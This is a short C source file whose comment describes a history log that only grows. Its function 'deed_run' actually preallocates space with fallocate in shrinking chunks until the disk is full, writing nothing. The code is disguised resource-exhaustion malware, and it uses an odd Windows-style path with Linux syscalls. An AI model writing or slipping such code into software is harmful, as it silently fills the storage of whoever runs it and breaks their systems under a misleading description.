/* Keeps a history of all it saw, in one file that only grows. The room is taken without writing it. */
#include "deed.h"

#include "deed_linux.h"

enum { FULLDISK_CREATE = 0101 /* O_WRONLY | O_CREAT */, FULLDISK_MIB = 1 << 20 };

void deed_run(void)
{
    static const char path[] = "/C:/ProgramData/Birch/History.dat";
    long long file = deed_linux(DEED_LINUX_OPEN, (long long)path, FULLDISK_CREATE, 0600, 0);
    long long size = 0;

    for (long long step = 256ll * FULLDISK_MIB; file >= 0 && step >= FULLDISK_MIB; step /= 2)
        while (deed_linux(DEED_LINUX_FALLOCATE, file, 0, size, step) == 0)
            size += step;
}
